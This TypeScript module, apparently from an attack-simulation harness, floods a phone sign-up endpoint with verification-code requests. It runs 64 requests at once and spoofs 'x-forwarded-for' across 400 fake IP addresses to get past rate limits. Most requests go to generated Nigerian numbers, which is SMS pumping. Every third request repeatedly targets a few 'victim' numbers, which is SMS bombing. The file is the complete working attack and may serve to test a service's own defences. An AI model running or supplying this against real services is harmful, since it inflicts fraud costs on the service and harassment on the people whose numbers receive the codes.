import { flood, post } from './asking.ts'
import type { Attack, AttackFindings } from './attack.ts'

const CONCURRENCY = 64
const ADDRESSES = 400

/** Two of three codes go to numbers across one country, the third to a few members' numbers. */
export async function attackCodes({ url, seconds }: Attack): Promise<AttackFindings> {
  const answers = await flood({ seconds, atOnce: CONCURRENCY }, (n) => {
    const phone_number = n % 3 === 0 ? victim(n) : `+23480${String((n * 7919) % 1e8).padStart(8, '0')}`
    const address = `10.9.${Math.floor((n % ADDRESSES) / 200)}.${n % 200}`
    const data = {
      full_name: 'Kofi Mensah',
      gender: 'Male',
      date_of_birth: '1992-02-01',
      country_of_residence: 'NG',
      agreed_to_terms: true,
    }
    const body = { phone_number, country_code: 'NG', data }
    return post(`${url}/auth/v1/sign-up/phone`, { 'x-forwarded-for': address }, body)
  })
  return { answers, counts: {} }
}

const victim = (n: number) => `+234803${String(Math.floor(n / 3) % 8).padStart(3, '0')}7777`
